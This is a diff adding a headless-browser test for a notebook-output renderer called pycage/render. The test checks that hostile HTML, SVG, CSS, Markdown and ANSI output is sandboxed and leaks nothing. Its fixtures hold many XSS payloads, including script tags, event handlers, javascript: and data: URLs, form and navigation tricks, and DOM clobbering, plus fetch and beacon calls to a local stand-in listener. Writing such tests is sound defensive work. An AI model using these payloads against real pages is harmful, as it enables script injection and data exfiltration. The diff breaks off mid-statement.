@@ -1,0 +1,549 @@
+// pycage/render in headless Chromium: a corpus of hostile outputs and real
+// pandas / plotly / Altair output (tests/fixtures/render/). Pass means: no
+// attacker script runs in the page, no request reaches a listener (nor the
+// page's own server, past the files the page loads), the page stays
+// responsive (a 25 ms timer never gaps more than MAX_STALL_MS), and the
+// real output is shown as it should be (tables in the page, plots drawn
+// in their frames).
+// Usage: node tests/render/browser.mjs   (needs no build; CHROMIUM to override /usr/bin/chromium)
+import { execFileSync } from "node:child_process";
+import { existsSync, readFileSync } from "node:fs";
+import http from "node:http";
+import { extname, join, normalize } from "node:path";
+import { launch, tally } from "../e2e/harness.mjs";
+
+const ROOT = new URL("../../", import.meta.url).pathname;
+const FIXTURES = join(ROOT, "tests/fixtures/render");
+// The attack suites' measure (tests/common/mod.rs MAX_PAGE_STALL_MS): the
+// longest gap of a 25 ms page timer. Every gap over 100 ms is printed, so a
+// slower renderer shows in the log long before it fails (typical: under
+// 300 ms on a quiet 2-core machine; 685 ms seen under a parallel build).
+const MAX_STALL_MS = 2000;
+const started = performance.now();
+const { check, finish } = tally("render browser");
+
+// plotly.js as an app would self-host it: the copy in the Python package.
+let plotlyFile = null;
+try {
+  const dir = execFileSync("python3", ["-c", "import plotly, os; print(os.path.dirname(plotly.__file__))"], { encoding: "utf8" }).trim();
+  if (existsSync(join(dir, "package_data/plotly.min.js"))) plotlyFile = join(dir, "package_data/plotly.min.js");
+} catch {}
+
+function listen(handler) {
+  const server = http.createServer(handler);
+  return new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(server)));
+}
+
+// The leak listener: any request to it is a failure.
+const hits = [];
+const listener = await listen((req, res) => {
+  hits.push(`${req.method} ${req.url}`);
+  res.writeHead(200, { "content-type": "text/plain", "access-control-allow-origin": "*" });
+  res.end("ok");
+});
+const L = `http://127.0.0.1:${listener.address().port}`;
+
+// The app's server: the page, render/, and plotly.js.
+const served = [];
+const TYPES = { ".js": "text/javascript", ".json": "application/json", ".html": "text/html" };
+const site = await listen((req, res) => {
+  const path = decodeURIComponent(new URL(req.url, "http://x").pathname);
+  served.push(path);
+  let file = null;
+  if (path === "/") {
+    res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
+    return res.end('<!DOCTYPE html><html><head><meta charset="utf-8"><title>render test</title></head><body><p id="outside">outside</p><div id="out"></div></body></html>');
+  }
+  if (path.startsWith("/render/")) file = normalize(join(ROOT, path));
+  if (path === "/vendor/plotly.min.js") file = plotlyFile;
+  if (!file || !file.startsWith(join(ROOT, "render")) && file !== plotlyFile || !existsSync(file)) {
+    res.writeHead(404);
+    return res.end();
+  }
+  res.writeHead(200, { "content-type": TYPES[extname(file)] ?? "application/octet-stream", "cross-origin-resource-policy": "cross-origin" });
+  res.end(readFileSync(file));
+});
+const U = `http://127.0.0.1:${site.address().port}`;
+const PLOTLY_URL = plotlyFile ? `${U}/vendor/plotly.min.js` : null;
+
+const manifest = JSON.parse(readFileSync(join(FIXTURES, "manifest.json"), "utf8"));
+const fixtures = manifest.fixtures.map((f) => ({ ...f, content: readFileSync(join(FIXTURES, f.file), "utf8") }));
+
+// ---------------------------------------------------------------------------
+// In the page: renders the corpus while a 25 ms timer watches the thread.
+async function inPage({ L, plotlyUrl, fixtures }) {
+  const R = await import("/render/index.js");
+  const out = document.getElementById("out");
+  window.__errors = [];
+  addEventListener("error", (e) => window.__errors.push(String(e.message)));
+  addEventListener("unhandledrejection", (e) => window.__errors.push(String(e.reason)));
+  const enc = (s) => new TextEncoder().encode(s);
+  const P = "top.__pwned=(top.__pwned||0)+1";
+  const beacon = (tag) => `fetch("${L}/${tag}").catch(()=>{});new Image().src="${L}/${tag}-img";`;
+  const base = { status: "ok", stdout: "", stderr: "", truncated: false, result: null, error: null, figures: [], outputs: [], droppedOutputs: [], protocolViolations: [], durationMs: 1, waitedMs: 0, interpreterReset: false, resetReason: null, memoryBytes: null, files: [], lostFiles: [] };
+  const ex = (fields) => ({ ...base, ...fields });
+  const display = (data) => ({ type: "display", source: "display", data: { "text/plain": "<object>", ...data } });
+  const html = (h) => display({ "text/html": h });
+
+  // Counts message listeners, to see dispose() remove its own.
+  let messageListeners = 0;
+  const add = window.addEventListener.bind(window);
+  const remove = window.removeEventListener.bind(window);
+  window.addEventListener = (type, fn, opts) => (type === "message" && messageListeners++, add(type, fn, opts));
+  window.removeEventListener = (type, fn, opts) => (type === "message" && messageListeners--, remove(type, fn, opts));
+
+  // Built before the timer starts: making 50 MB of test input is not the renderer's work.
+  const row = "<tr><td>123456</td><td>abcdef</td><td>ghijkl</td></tr>";
+  const table50 = `<table>${row.repeat(Math.ceil(50e6 / row.length))}</table>`;
+  const deep = `${"<div>".repeat(10000)}deep${"</div>".repeat(10000)}`;
+  const deepTable = `${"<div>".repeat(10000)}<table><tr><td>x</td></tr></table>${"</div>".repeat(10000)}`;
+  const bigHtml = `<p>${"x".repeat(6e6)}</p>`;
+  const ansiFlood = "\x1b[31ma\x1b[32mb<script>\n".repeat(200_000);
+  // Flat, as strings arrive from the sandbox (structured clone), not ropes to be flattened on first use.
+  for (const s of [table50, deep, deepTable, bigHtml, ansiFlood]) s.indexOf("\u0001");
+
+  const hostile = {
+    script: `<script>${P};${beacon("script")}</script><p>script</p>`,
+    handlers: `<img src="x" onerror="${P};${beacon("onerror")}"><svg onload="${P}"></svg><body onload="${P};${beacon("body-onload")}"><details open ontoggle="${P};${beacon("ontoggle")}"><summary>x</summary></details><input autofocus onfocus="${P};${beacon("onfocus")}">`,
+    javascriptUrls: `<a id="j" href="javascript:${P};${beacon("js-url")}">js</a><script>document.getElementById("j").click()</script><iframe src="javascript:fetch('${L}/js-iframe')"></iframe>`,
+    dataUrls: `<iframe src="data:text/html,<script>fetch('${L}/data-iframe')</script>"></iframe><object data="data:text/html,<script>fetch('${L}/data-object')</script>"></object><embed src="data:text/html,<script>fetch('${L}/data-embed')</script>"><a id="d" href="data:text/html,<script>fetch('${L}/data-link')</script>">d</a><script>document.getElementById("d").click()</script><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${L}/data-svg-image'/></svg>">`,
+    svgScripts: `<svg xmlns="http://www.w3.org/2000/svg"><script>${P};${beacon("svg-script")}</script><image href="${L}/svg-image"/><foreignObject><iframe src="${L}/svg-fo"></iframe></foreignObject><use href="${L}/svg-use#x"/><animate onbegin="${P};${beacon("svg-onbegin")}" attributeName="x" dur="1s"/></svg>`,
+    cssUrls: `<style>@import url("${L}/css-import");body{background:url("${L}/css-bg")}@font-face{font-family:f;src:url("${L}/css-font")}p{font-family:f}</style><p style="background-image:url('${L}/css-inline')">css</p><link rel="stylesheet" href="${L}/css-link">`,
+    metaHttpEquiv: `<meta http-equiv="refresh" content="0;url=${L}/meta-refresh"><meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; img-src *; connect-src *"><meta http-equiv="set-cookie" content="a=b"><img src="${L}/meta-img"><script>${beacon("meta-fetch")}</script>`,
+    forms: `<form id="f" action="${L}/form" method="post"><input name="a" value="b"><button id="b">go</button></form><script>document.getElementById("f").submit();document.getElementById("b").click()</script><form action="javascript:${P}"><button id="c">c</button></form><script>document.getElementById("c").click()</script>`,
+    baseTag: `<base href="${L}/base/"><img src="base-img.png"><script src="base-script.js"></script><a id="bl" href="base-link">l</a><script>document.getElementById("bl").click()</script>`,
+    navigation: `<script>setTimeout(()=>{location.href="${L}/self-nav"},50);setTimeout(()=>{try{top.location="${L}/top-nav"}catch(e){}},60);setTimeout(()=>{try{parent.location="${L}/parent-nav"}catch(e){}},65);setTimeout(()=>{window.open("${L}/popup")},70);try{navigator.sendBeacon("${L}/beacon")}catch(e){};try{new WebSocket("${L.replace("http", "ws")}/ws")}catch(e){};try{new EventSource("${L}/sse")}catch(e){};import("${L}/module.js").catch(()=>{});try{new Worker("${L}/worker.js")}catch(e){}</script><a href="${L}/link" target="_self" id="n">n</a><script>setTimeout(()=>document.getElementById("n").click(),80)</script><link rel="prefetch" href="${L}/prefetch"><link rel="preload" as="image" href="${L}/preload"><meta http-equiv="refresh" content="1">`,
+    childFrames: `<iframe id="c"></iframe><script>const c=document.getElementById("c");c.contentWindow.location="${L}/child-nav";const i=document.createElement("iframe");i.src="${L}/child-src";document.body.append(i);const s=document.createElement("iframe");s.srcdoc="<script>fetch('${L}/grandchild');location='${L}/grandchild-nav'<\\/script>";document.body.append(s)</script>`,
+    clobberFrame: `<form id="out" name="getElementById"><img name="getElementById"><img id="__pwned"></form>`,
+    tableTemplate: `<table><template><script>${P}</script></template><tr><td>t</td></tr></table>`,
+    tableNoscript: `<table><tr><td><noscript><img src="${L}/noscript" onerror="${P}"></noscript></td></tr></table>`,
+    deepDivs: deep,
+    deepDivsAroundTable: deepTable,
+  };
+  const tables = {
+    clobberTable: `<table id="out" name="getElementById"><tr><td id="__pwned" name="cookie">clobber</td></tr></table><div id="outside">x</div>`,
+    tableAttrs: `<table onclick="${P}" background="${L}/table-bg" style="background:url(${L}/table-style)" id="t1" class="evil"><caption style="x">cap</caption><colgroup span="999999"><col span="2" style="background:url(${L}/col)"></colgroup><tr><td colspan="99999" rowspan="-1" onmouseover="${P}" style="background:url(${L}/td-style)" class="x" title="t" data-x="1">a</td><th scope="row" abbr="x" headers="h">b</th><td background="${L}/td-bg">c</td></tr></table>`,
+    styleInCell: `<table><tr><td><style>@import url(${L}/style-in-cell);</style><b>cell</b></td></tr></table>`,
+    table50MB: table50,
+  };
+
+  const svgFigure = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30"><title>Hostile chart</title><script>${P}</script><image href="${L}/svg-figure-image" width="10" height="10"/><style>@import url(${L}/svg-figure-css);</style><rect width="40" height="30" fill="teal" onload="${P}"/></svg>`;
+
+  const cases = [];
+  const results = {};
+  let worst = 0;
+  let last = performance.now();
+  const stalls = [];
+  let current = "start";
+  const timer = setInterval(() => {
+    const now = performance.now();
+    if (now - last > 100) stalls.push(`${Math.round(now - last)} (${current})`);
+    worst = Math.max(worst, now - last);
+    last = now;
+  }, 25);
+  const tick = () => new Promise((r) => setTimeout(r, 30));
+  const options = { plotlyUrl, maxFrameHeight: 2000 };
+  const renderCase = async (name, execution, opts = options) => {
+    const box = document.createElement("section");
+    box.dataset.case = name;
+    out.append(box);
+    console.debug(`render case ${name}`);
+    current = name;
+    const t = performance.now();
+    let handle;
+    try {
+      handle = R.renderExecution(execution, box, opts);
+    } catch (e) {
+      results[name] = { threw: String(e) };
+      return null;
+    }
+    results[name] = { ms: Math.round(performance.now() - t) };
+    cases.push({ name, handle, box });
+    await tick();
+    return handle;
+  };
+
+  for (const [name, h] of Object.entries(hostile)) await renderCase(name, ex({ outputs: [html(h)] }));
+  for (const [name, h] of Object.entries(tables)) await renderCase(name, ex({ outputs: [html(h)] }));
+  await renderCase("bigHtml", ex({ outputs: [html(bigHtml)] }));
+  await renderCase("plotlyJsonHostile", ex({ outputs: [display({ "application/vnd.plotly.v1+json": { data: [{ type: "bar", x: ["a"], y: [1] }], layout: { title: { text: `</script><script>${P}</script>` } } } })] }));
+  await renderCase("markdown", ex({ outputs: [display({ "text/markdown": `# Title\n\n[x](javascript:${P}) [ok](https://example.com/) ![i](${L}/md-img) <script>${P}</script> <img src="${L}/md-html-img" onerror="${P}">\n\n${">".repeat(10000)} deep` })] }));
+  await renderCase("latex", ex({ outputs: [display({ "text/latex": `\\href{javascript:${P}}{x} <script>${P}</script> $x^2$` })] }));
+  await renderCase("figures", ex({ outputs: [display({ "image/svg+xml": svgFigure }), display({ "image/png": enc("<script>not a png</script>") }), display({ "image/jpeg": "not bytes" })] }));
+  await renderCase("stdout", ex({ stdout: "", outputs: [{ type: "stdout", text: `<script>${P}</script>\x1b[31mred\x1b[0m \x1b]8;;${L}/osc\x07link\x1b]8;;\x07 <img src="${L}/stdout-img" onerror="${P}">\n` }, { type: "stderr", text: "\x1b[1;33mwarning\x1b[0m\n" }] }));
+  await renderCase("ansiFlood", ex({ outputs: [{ type: "stdout", text: ansiFlood }] }));
+  await renderCase("error", ex({ status: "error", error: { type: `<img src=x onerror="${P}">`, message: `<script>${P}</script>`, traceback: `\x1b[31mTraceback\x1b[0m\n  <b>File</b> "x"\n`, line: 1 } }));
+  await renderCase("notices", ex({ status: "timeout", error: { type: "TimeoutError", message: "over 5 s", traceback: "", line: null }, interpreterReset: true, resetReason: `<b>timeout</b>`, truncated: true, droppedOutputs: Array.from({ length: 10000 }, (_, i) => `<img src="${L}/dropped-${i}" onerror="${P}">`), protocolViolations: ["<script>x</script>"], lostFiles: ["/mnt/data/a.csv"] }));
+  await renderCase("files", ex({ files: [{ path: `/mnt/data/../../<img src=x onerror="${P}">.html`, size: 20, mime: "text/html", data: enc(`<script>${P}</script>`) }, { path: "/mnt/data/out/summary.csv", size: 4, mime: "text/csv", data: enc("a,b\n") }] }));
+  await renderCase("oddItems", ex({ outputs: [null, { type: "weird" }, { type: "display", data: null }, { type: "stdout", text: 5 }, display({ "text/html": 5 }), { type: "display", data: { "application/json": { a: [1, 2] } } }] }));
+  const renderMs = Math.round(performance.now() - last);
+
+  // The real fixtures, each as notebook output.
+  const fixtureInfo = {};
+  for (const f of fixtures) {
+    const data = f.mime === "text/html" ? { "text/html": f.content } : f.mime === "application/vnd.plotly.v1+json" ? { [f.mime]: JSON.parse(f.content) } : { "application/json": JSON.parse(f.content) };
+    await renderCase(`fixture:${f.file}`, ex({ outputs: [display(data)] }));
+  }
+  // plotly's text/html without plotly.js configured: a notice, not a blank frame.
+  await renderCase("plotlyUnconfigured", ex({ outputs: [html(fixtures.find((f) => f.file === "plotly_cdn.html").content)] }), {});
+
+  // Let the frames do their worst for a while, with the timer still watching.
+  current = "settling";
+  await new Promise((r) => setTimeout(r, 4000));
+
+  const summarise = (box) => ({
+    tables: box.querySelectorAll("table.pycage-table").length,
+    frames: box.querySelectorAll("iframe").length,
+    imgs: [...box.querySelectorAll("img")].map((i) => ({ alt: i.alt, src: i.src.slice(0, 30), w: i.width })),
+    notices: [...box.querySelectorAll(".pycage-notice")].map((n) => (n.textContent.length > 400 ? `${n.textContent.slice(0, 200)} … ${n.textContent.slice(-100)}` : n.textContent)),
+    buttons: [...box.querySelectorAll("button")].map((b) => b.textContent),
+    text: box.textContent.slice(0, 2000),
+    frameHeights: [...box.querySelectorAll("iframe")].map((f) => parseFloat(f.style.height)),
+    attrs: [...box.querySelectorAll(".pycage-html-table *")].flatMap((e) => [...e.attributes].map((a) => `${e.localName}[${a.name}=${a.value}]`)),
+    rows: box.querySelectorAll(".pycage-html-table tr").length,
+  });
+  for (const c of cases) fixtureInfo[c.name] = { ...results[c.name], ...summarise(c.box) };
+  for (const [name, r] of Object.entries(results)) if (r.threw) fixtureInfo[name] = r;
+
+  // The lying frame's height over its life: sampled every tick above? Its final value is checked.
+  clearInterval(timer);
+
+  // Page integrity after the clobbering attempts.
+  const integrity = {
+    pwned: window.__pwned ?? null,
+    errors: window.__errors,
+    getElementById: typeof document.getElementById,
+    out: document.getElementById("out") === out,
+    outside: document.getElementById("outside")?.localName,
+    cookieType: typeof document.cookie,
+  };
+
+  // CSS: every rule of every adopted sheet is scoped under .pycage-render.
+  const selectors = [];
+  const walk = (rules) => {
+    for (const r of rules) {
+      if (r.selectorText !== undefined) selectors.push(r.selectorText);
+      else if (r.cssRules) walk(r.cssRules);
+    }
+  };
+  for (const s of document.adoptedStyleSheets) walk(s.cssRules);
+  const unscoped = selectors.filter((s) => s.split(",").some((part) => !part.trim().startsWith(".pycage-render")));
+  const outsideStyle = getComputedStyle(document.getElementById("outside")).fontFamily;
+
+  return { results: fixtureInfo, integrity, worst: Math.round(worst), stalls, renderMs, selectors: selectors.length, unscoped, outsideStyle, adopted: document.adoptedStyleSheets.length, messageListeners };
+}
+
+// ---------------------------------------------------------------------------
+const browser = await launch();
+let page;
+try {
+  page = await browser.newPage();
+  // Errors in the page itself (its own "error" events); the frames' errors
+  // (the corpus's scripts failing, as they should) are not the page's.
+  const pageErrors = [];
+  if (process.env.RENDER_DEBUG) page.on("console", (m) => console.log(`[page ${m.type()}] ${m.text().slice(0, 200)}`));
+  page.on("dialog", (d) => {
+    pageErrors.push(`dialog: ${d.message()}`);
+    d.dismiss().catch(() => {});
+  });
+  await page.goto(`${U}/`);
+  const r = await page.evaluate(inPage, { L, plotlyUrl: PLOTLY_URL, fixtures });
+  const c = r.results;
+  const show = (name) => JSON.stringify(c[name]).slice(0, 300);
+
+  // --- containment ---------------------------------------------------------
+  check(r.integrity.pwned === null, `no attacker script ran in the page (window.__pwned: ${r.integrity.pwned})`);
+  check(r.integrity.errors.length === 0 && pageErrors.length === 0, `no uncaught error or dialog in the page (${[...r.integrity.errors, ...pageErrors].slice(0, 3).join(" | ")})`);
+  check(hits.length === 0, `no request reached the listener (${hits.length}: ${hits.slice(0, 8).join(", ")})`);
+  const unexpected = served.filter((p) => !(p === "/" || /^\/render\/\w+\.js$/.test(p) || p === "/vendor/plotly.min.js" || p === "/favicon.ico"));
+  check(unexpected.length === 0, `no request reached the page's own server past its files (${unexpected.slice(0, 8).join(", ")})`);
+  check(r.worst < MAX_STALL_MS, `the page stayed responsive: worst 25 ms timer gap ${r.worst} ms (< ${MAX_STALL_MS}; gaps over 100 ms: ${r.stalls.join(", ") || "none"})`);
+  check(r.integrity.getElementById === "function" && r.integrity.out && r.integrity.outside === "p" && r.integrity.cookieType === "string", "ids from the sandbox clobber nothing (document.getElementById, #out, #outside intact)");
+  for (const [name, info] of Object.entries(c)) if (info.threw) check(false, `${name}: renderExecution did not throw (${info.threw})`);
+
+  for (const name of ["script", "handlers", "javascriptUrls", "dataUrls", "svgScripts", "cssUrls", "metaHttpEquiv", "forms", "baseTag", "navigation", "childFrames", "clobberFrame", "tableTemplate", "tableNoscript", "deepDivs", "deepDivsAroundTable"]) {
+    check(c[name]?.frames === 1 && c[name]?.tables === 0, `${name}: shown only in a nested sandboxed frame (${show(name)})`);
+  }
+  check(c.clobberTable.tables === 1 && c.clobberTable.attrs.every((a) => /^(div\[(class|tabindex|role|aria-label)=|table\[class=pycage-table\])/.test(a)), `clobberTable: rebuilt with no id or name (${c.clobberTable.attrs.join(" ")})`);
+  const allowedAttr = /^(div\[(class|tabindex|role|aria-label)=|table\[class=pycage-table\]|td\[(colspan|rowspan)=\d+\]|th\[(colspan|rowspan)=\d+\]|th\[scope=(row|col|rowgroup|colgroup)\]|col(group)?\[span=\d+\])/;
+  check(c.tableAttrs.tables === 1 && c.tableAttrs.attrs.every((a) => allowedAttr.test(a)), `tableAttrs: only bounded spans and scope survive (${c.tableAttrs.attrs.join(" ")})`);
+  check(c.tableAttrs.attrs.includes("td[colspan=1000]") && c.tableAttrs.attrs.includes("colgroup[span=1000]") && !c.tableAttrs.attrs.some((a) => a.startsWith("td[rowspan")), "tableAttrs: colspan 99999 is clamped to 1000, rowspan -1 dropped");
+  check(c.styleInCell.tables === 1 && c.styleInCell.text.includes("cell") && !c.styleInCell.text.includes("@import"), "a <style> inside a cell is dropped, its text never shown or applied");
+  const t50 = c.table50MB;
+  check(t50.tables === 1 && t50.rows === 100 && t50.notices.some((n) => /Table cut: showing 100 rows \(maxTableRows 100, maxTableCells 3,000\), not (at least )?[\d,]+ more rows\. Its HTML is 47\.7 MB; the first/.test(n)), `a 50 MB table: 100 rows rebuilt in ${t50.ms} ms, and a notice says it was cut (${t50.notices.join(" | ")})`);
+  check(c.bigHtml.frames === 0 && c.bigHtml.notices.some((n) => n.includes("over maxHtmlChars")), "a 6 MB HTML output is not framed; a notice says so");
+
+  // --- what is shown, and how ----------------------------------------------
+  check(c.markdown.frames === 0 && c.markdown.text.includes("<script>") && c.markdown.text.includes("[image: i]"), "markdown: inline HTML is text, images are alt text");
+  check(c.latex.text.includes("\\href{javascript:") && c.latex.frames === 0, "LaTeX without a renderer is shown as its source");
+  const [svgImg, ...badImgs] = c.figures.imgs;
+  check(c.figures.imgs.length === 1 && svgImg.alt === "Hostile chart" && svgImg.src.startsWith("data:image/svg+xml;base64,"), `an SVG figure is an <img> of a data: URL, alt from its <title> (${JSON.stringify(c.figures.imgs)})`);
+  check(badImgs.length === 0 && c.figures.notices.length === 1 && c.figures.notices[0].includes("image/png") && c.figures.text.includes("<object>"), `a PNG that is not one is a notice, a JPEG that is not bytes falls back to text/plain (${c.figures.notices.join(" | ")})`);
+  check(c.stdout.text.includes("<script>") && c.stdout.text.includes("red link") && !c.stdout.text.includes("\x1b"), "stdout: markup is text, escape sequences are gone");
+  check(c.ansiFlood.notices.length === 0 && c.ansiFlood.buttons.join() === "Show all", `400,000 ANSI codes: collapsed, rendered in ${c.ansiFlood.ms} ms`);
+  check(c.error.text.includes(`<img src=x onerror=`) && c.error.text.includes("Traceback"), "the error's type, message and traceback are text");
+  check(c.notices.notices.some((n) => n.includes("timed out")) && c.notices.notices.some((n) => n.includes("reset (<b>timeout</b>)")) && c.notices.notices.some((n) => n.includes("maxOutputBytes")) && c.notices.notices.some((n) => n.includes("10000 outputs were dropped") && n.includes("... and 9,980 more")) && c.notices.notices.some((n) => n.includes("protocol")) && c.notices.notices.some((n) => n.includes("lost")), `notices: timeout, reset, truncation, 10,000 dropped outputs (20 listed), protocol, lost files (${c.notices.notices.map((n) => n.slice(0, 40)).join(" | ")})`);
+  check(c.oddItems.notices.length >= 3 && c.oddItems.text.includes('"a"'), `malformed output items become notices (${c.oddItems.notices.length})`);
+
+  // Fixtures.
+  const fx = (file) => c[`fixture:${file}`];
+  for (const f of fixtures) {
+    const info = fx(f.file);
+    if (f.expect === "table") check(info.tables >= 1 && info.frames === 0 && (f.contains ?? []).every((t) => info.text.includes(t)), `${f.file}: rebuilt as a table in the page (${info.rows} rows, ${info.ms} ms${f.contains ? `, shows ${f.contains.map((t) => JSON.stringify(t)).join(" ")}` : ""})`);
+    if (f.expect === "frame") check(info.frames === 1 && info.tables === 0, `${f.file}: shown in a nested frame (${info.frameHeights} px high)`);
+    if (f.expect === "json") check(info.text.includes('"mark"'), `${f.file}: shown as JSON text`);
+  }
+  check(fx("pandas_multiindex.html").attrs.includes("th[colspan=2]") && fx("pandas_multiindex.html").attrs.includes("th[rowspan=3]"), "a MultiIndex keeps its colspan and rowspan");
+  check(fx("pandas_2000_rows.html").rows === 100 && fx("pandas_2000_rows.html").notices.some((n) => n.startsWith("Table cut") && n.includes("1,901 more rows")), `to_html of 2000 rows: 100 rebuilt, the cut said (${fx("pandas_2000_rows.html").notices})`);
+  check(c.plotlyUnconfigured.frames === 0 && c.plotlyUnconfigured.notices.some((n) => n.includes("plotlyUrl")), "plotly's HTML without plotly.js configured: a notice, no frame");
+
+  // Plots drawn inside their frames (Playwright reaches into the opaque frames).
+  if (PLOTLY_URL) {
+    const plotted = [];
+    for (const frame of page.frames()) {
+      const n = await frame.evaluate(() => document.querySelectorAll(".main-svg").length).catch(() => 0);
+      const title = await frame.evaluate(() => document.querySelector(".gtitle")?.textContent ?? "").catch(() => "");
+      if (n) plotted.push(title);
+    }
+    check(plotted.length >= 4, `plotly.js drew in ${plotted.length} frames (cdn, full, JSON, hostile JSON): titles ${JSON.stringify(plotted)}`);
+    check(plotted.includes("Scatter of y by x") && plotted.includes("Bars"), "the fixtures' titles are drawn");
+    check(plotted.some((t) => t.includes("</script><script>")), "a hostile plotly title is drawn as text");
+    // Sandboxed frames share a process, and this one had 20 hostile neighbours: wait for it.
+    const h = await page.evaluate(async () => {
+      const frame = document.querySelector('[data-case="fixture:plotly_cdn.html"] iframe');
+      for (let i = 0; i < 100 && parseFloat(frame.style.height) === 150; i++) await new Promise((r) => setTimeout(r, 100));
+      return parseFloat(frame.style.height);
+    });
+    check(h > 300 && h <= 2000, `the plotly frame is sized by its height message (${h} px)`);
+  } else check(false, "plotly.js found in the Python plotly package (for PLOTLY_URL)");
+  const altair = fx("altair_chart.html");
+  if (altair) check(altair.frames === 1, "Altair's HTML is framed (its CDN scripts are refused: vega is not configured)");
+
+  check(r.unscoped.length === 0 && r.selectors > 50, `all ${r.selectors} CSS rules are under .pycage-render (${r.unscoped.slice(0, 3)})`);
+  check(r.adopted === 1, `the CSS is installed once per document (${r.adopted} adopted sheet)`);
+  check(!/monospace/.test(r.outsideStyle) && r.outsideStyle !== "", `elements outside are untouched (font ${r.outsideStyle})`);
+
+  // --- the handle: order, streaming update, dispose, options ------------------
+  const h = await page.evaluate(async ({ L }) => {
+    const R = await import("/render/index.js");
+    const box = document.createElement("div");
+    document.body.append(box);
+    const base = { status: "ok", truncated: false, result: null, error: null, figures: [], droppedOutputs: [], protocolViolations: [], interpreterReset: false, files: [], lostFiles: [] };
+    const frameHtml = "<p>framed</p><script>document.body.style.height='123px'</script>";
+    const o1 = [{ type: "stdout", text: "first\n" }];
+    const o2 = [...o1, { type: "display", source: "display", data: { "text/markdown": "**second**" } }, { type: "stderr", text: "third\n" }, { type: "display", source: "display", data: { "text/html": frameHtml } }, { type: "stdout", text: "fifth" }];
+    const o3 = [...o2.slice(0, 4), { type: "stdout", text: "fifth and more" }, { type: "stdout", text: " sixth" }];
+    const handle = R.renderExecution({ ...base, outputs: o1, files: [{ path: "/mnt/data/a.bin", size: 3, mime: "application/octet-stream", data: new Uint8Array([1, 2, 3]) }] }, box);
+    const first = box.textContent;
+    handle.update({ ...base, outputs: o2, files: [] });
+    const frame1 = box.querySelector("iframe");
+    await new Promise((r) => setTimeout(r, 1500));
+    const frameHeight = parseFloat(frame1.style.height);
+    handle.update({ ...base, outputs: o3, result: { "text/plain": "42" } });
+    const frameKept = box.querySelector("iframe") === frame1;
+    const order = [...handle.element.querySelectorAll("pre, .pycage-markdown, iframe")].map((n) => (n.localName === "iframe" ? "[frame]" : n.textContent.trim()));
+    // Files: a download link to an octet-stream blob, revoked on dispose.
+    handle.update({ ...base, outputs: o3, files: [{ path: "/mnt/data/dir/re<p>ort?.html", size: 5, mime: "text/html", data: new TextEncoder().encode("<b>x") }] });
+    const a = box.querySelector("a[download]");
+    const link = { download: a.download, href: a.href.slice(0, 5), type: (await (await fetch(a.href)).blob()).type, text: a.textContent };
+    // Collapse and expand from the keyboard.
+    const long = R.renderOutputs([{ type: "stdout", text: "line\n".repeat(1000) }], box);
+    const button = long.element.querySelector("button");
+    const collapsedLines = long.element.querySelector("pre").textContent.split("\n").length;
+    const aria = button.getAttribute("aria-expanded");
+    handle.dispose();
+    const revoked = await fetch(a.href).then(() => false, () => true);
+    const afterDispose = { inPage: handle.element.isConnected, frames: document.querySelectorAll("section iframe").length };
+    // Options in, typed errors out.
+    const errors = [];
+    const tryIt = (f) => {
+      try {
+        f();
+        errors.push("no error");
+      } catch (e) {
+        errors.push(`${e.constructor.name}:${e.field}`);
+      }
+    };
+    tryIt(() => R.renderExecution(null, box));
+    tryIt(() => R.renderExecution({ status: "ok" }, box));
+    tryIt(() => R.renderExecution({ ...base, outputs: [] }, null));
+    tryIt(() => R.renderExecution({ ...base, outputs: [] }, box, { maxFrames: -1 }));
+    tryIt(() => R.renderExecution({ ...base, outputs: [] }, box, { scriptUrls: [`${L}/x.js; script-src *`] }));
+    tryIt(() => R.renderExecution({ ...base, outputs: [] }, box, { colour: "red" }));
+    // A LaTeX renderer the app configures; one that throws falls back to the source.
+    const latex = R.renderExecution({ ...base, outputs: [{ type: "display", source: "display", data: { "text/latex": "$x^2$" } }] }, box, { renderLatex: (src, el) => { el.textContent = `rendered:${src}`; } });
+    const latexThrows = R.renderExecution({ ...base, outputs: [{ type: "display", source: "display", data: { "text/latex": "$y$" } }] }, box, { renderLatex: () => { throw new Error("bad"); } });
+    // Themes.
+    const themed = {};
+    for (const theme of ["light", "dark"]) {
+      const t = R.renderOutputs([{ type: "stdout", text: "\x1b[31mred" }], box, { theme });
+      themed[theme] = { bg: getComputedStyle(t.element).backgroundColor, red: getComputedStyle(t.element.querySelector(".pycage-fg-1")).color };
+    }
+    const auto = R.renderOutputs([], box);
+    themed.auto = getComputedStyle(auto.element).backgroundColor;
+    return { first, frameHeight, frameKept, order, link, collapsedLines, aria, buttonText: button.textContent, revoked, afterDispose, errors, latex: latex.element.textContent, latexThrows: latexThrows.element.textContent, themed, listenersBefore: null };
+  }, { L });
+  check(h.order.join("|") === "first|second|third|[frame]|fifth and more sixth|42", `outputs in their true order, then the result (${h.order.join(" | ")})`);
+  check(h.frameKept, "update() keeps a frame already shown (it does not reload) and re-renders the stream that grew");
+  check(h.frameHeight === 139 || (h.frameHeight > 120 && h.frameHeight < 200), `a frame's height follows its content (${h.frameHeight} px for a 123 px body + padding)`);
+  check(h.link.download === "re_p_ort_.html" && h.link.href === "blob:" && h.link.type === "application/octet-stream" && h.link.text === "dir/re<p>ort?.html", `files: a download link, sanitised name, octet-stream blob (${JSON.stringify(h.link)})`);
+  check(h.revoked, "dispose() revokes the files' blob: URLs");
+  check(!h.afterDispose.inPage, "dispose() removes the rendered output");
+  check(h.collapsedLines <= 202 && h.aria === "false" && h.buttonText === "Show all", `1000 lines are collapsed to 200 with a "Show all" button (${h.collapsedLines} lines)`);
+  check(h.errors.join() === "TypeError:execution,TypeError:execution,TypeError:container,TypeError:maxFrames,TypeError:scriptUrls[0],TypeError:colour", `bad input and options are TypeErrors naming the field (${h.errors.join(", ")})`);
+  check(h.latex === "rendered:$x^2$" && h.latexThrows === "$y$", "a configured LaTeX renderer is used; one that throws falls back to the source");
+  check(h.themed.light.bg !== h.themed.dark.bg && h.themed.light.red !== h.themed.dark.red, `light and dark themes (${JSON.stringify(h.themed)})`);
+
+  // Keyboard: Tab to the "Show all" button, Enter expands.
+  await page.evaluate(() => document.querySelectorAll("button")[document.querySelectorAll("button").length - 1]?.blur());
+  const expanded = await page.evaluate(() => {
